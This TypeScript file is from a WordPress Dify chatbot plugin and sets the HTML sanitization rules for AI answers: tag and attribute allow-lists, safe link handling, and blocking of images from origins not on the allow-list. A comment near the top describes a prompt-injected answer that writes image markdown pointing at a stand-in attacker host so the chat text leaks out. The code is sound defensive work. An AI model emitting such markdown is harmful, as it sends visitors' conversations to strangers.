/**
 * What the sanitizer keeps of an answer's markup (sanitize.ts applies it with the browser's
 * Sanitizer API or with DOMPurify): the allow-lists, and the rules neither sanitizer applies
 * itself, run on the inert fragment before it reaches the page.
 */
import { __, sprintf } from '@wordpress/i18n';

import { isSafeUrl } from './url';

/**
 * Origins an answer's images may load from (the page configuration's `imageOrigins`: the Dify
 * API's, the site's own and what the site's `dify_chatbot_image_origins` filter adds). None
 * until the app is told: an image is a request the visitor's browser makes on its own, so one
 * pointing elsewhere could carry the chat's text to a stranger (an answer steered by a prompt
 * injection writes `![x](https://attacker/?q=<the chat>)`).
 */
let imageOrigins: ReadonlySet< string > = new Set();

/**
 * Sets where answers' images may load from (the app does, once, from the page configuration).
 *
 * @param origins `scheme://host[:port]` of each.
 */
export function allowImagesFrom( origins: readonly string[] ): void {
	imageOrigins = new Set( origins );
}

/**
 * The origin of an absolute web address, '' when it has none.
 *
 * @param url The address.
 */
function originOf( url: string ): string {
	try {
		return new URL( url ).origin;
	} catch {
		return '';
	}
}

/**
 * An image from an origin not allowed, as a link to it: nothing is requested unless the visitor
 * follows it (in a new tab, without a referrer).
 *
 * @param image The image, in the inert fragment.
 * @param src   Its (safe, absolute) address.
 */
function asLink( image: Element, src: string ): void {
	const link = image.ownerDocument.createElement( 'a' );
	link.setAttribute( 'href', src );
	link.setAttribute( 'target', '_blank' );
	link.setAttribute( 'rel', 'nofollow noopener noreferrer' );
	const alt = ( image.getAttribute( 'alt' ) ?? '' ).trim();
	link.textContent = sprintf(
		/* translators: %s: the image's description, or the server it is on. */
		__( 'Image: %s', 'dify-chatbot' ),
		alt || new URL( src ).host
	);
	link.setAttribute(
		'title',
		sprintf(
			/* translators: %s: the server the image is on. */
			__(
				'Not loaded: it is on %s. Opens in a new tab.',
				'dify-chatbot'
			),
			new URL( src ).host
		)
	);
	image.replaceWith( link );
}

/** What is being sanitized: an answer's markup, or highlight.js's token spans. */
export type Profile = 'answer' | 'code';

export const TAGS = [
	'a',
	'b',
	'blockquote',
	'br',
	'code',
	'del',
	'em',
	'h1',
	'h2',
	'h3',
	'h4',
	'h5',
	'h6',
	'hr',
	'i',
	'img',
	'input', // Task-list checkboxes (disabled ones only, see finish()).
	'kbd',
	'li',
	'ol',
	'p',
	'pre',
	's',
	'span',
	'strong',
	'sub',
	'sup',
	'table',
	'tbody',
	'td',
	'tfoot',
	'th',
	'thead',
	'tr',
	'ul',
];

export const ATTRIBUTES = [
	'href',
	'title',
	'alt',
	'src',
	'align',
	'start',
	'colspan',
	'rowspan',
	'type',
	'checked',
	'disabled',
];

/**
 * Containers a model may write as raw HTML: they go, their text stays (as DOMPurify keeps the text
 * of elements it removes). Anything else not allowed goes with its content.
 */
export const UNWRAP = [
	'abbr',
	'article',
	'aside',
	'big',
	'center',
	'cite',
	'dd',
	'details',
	'dfn',
	'div',
	'dl',
	'dt',
	'figcaption',
	'figure',
	'font',
	'footer',
	'header',
	'ins',
	'label',
	'main',
	'mark',
	'nav',
	'q',
	'samp',
	'section',
	'small',
	'summary',
	'time',
	'tt',
	'u',
	'var',
];

const LANGUAGE = /^language-[\w+#-]{1,32}$/;
const TOKEN = /^hljs(-[\w]+)?( [\w-]+)*$/;

/**
 * The rules both sanitizers leave to us, applied in the inert fragment.
 *
 * @param fragment The sanitized fragment.
 * @param profile  What it is.
 */
export function finish( fragment: DocumentFragment, profile: Profile ): void {
	for ( const element of Array.from( fragment.querySelectorAll( '*' ) ) ) {
		const tag = element.tagName.toLowerCase();
		const kept = element.getAttribute( 'class' );
		if ( kept !== null ) {
			const allowed =
				profile === 'code'
					? tag === 'span' && TOKEN.test( kept )
					: tag === 'code' && LANGUAGE.test( kept );
			if ( ! allowed ) {
				element.removeAttribute( 'class' );
			}
		}
		if ( profile === 'code' ) {
			continue;
		}
		if ( tag === 'a' ) {
			if (
				element.hasAttribute( 'href' ) &&
				! isSafeUrl( element.getAttribute( 'href' ), 'link' )
			) {
				element.removeAttribute( 'href' );
			}
			if ( element.hasAttribute( 'href' ) ) {
				element.setAttribute( 'target', '_blank' );
				element.setAttribute( 'rel', 'nofollow noopener noreferrer' );
			}
		} else if ( tag === 'img' ) {
			// Only absolute web addresses (see isSafeUrl's `resource`).
			const src = element.getAttribute( 'src' );
			if ( ! isSafeUrl( src ) ) {
				element.remove();
				continue;
			}
			// Replaced here, in the inert document, before anything can load it.
			if ( ! imageOrigins.has( originOf( src ) ) ) {
				asLink( element, src );
				continue;
			}
			element.setAttribute( 'loading', 'lazy' );
			element.setAttribute( 'referrerpolicy', 'no-referrer' );
		} else if ( tag === 'input' ) {
			// Only a GFM task-list box, and never one a visitor can change.
			if ( element.getAttribute( 'type' ) !== 'checkbox' ) {
				element.remove();
				continue;
			}
			element.setAttribute( 'disabled', '' );
		} else if ( tag === 'pre' || tag === 'table' ) {
			// They scroll sideways when wide (components/_markdown.scss): reachable with the keyboard, so a
			// keyboard user can scroll them too.
			element.setAttribute( 'tabindex', '0' );
		}
	}
}
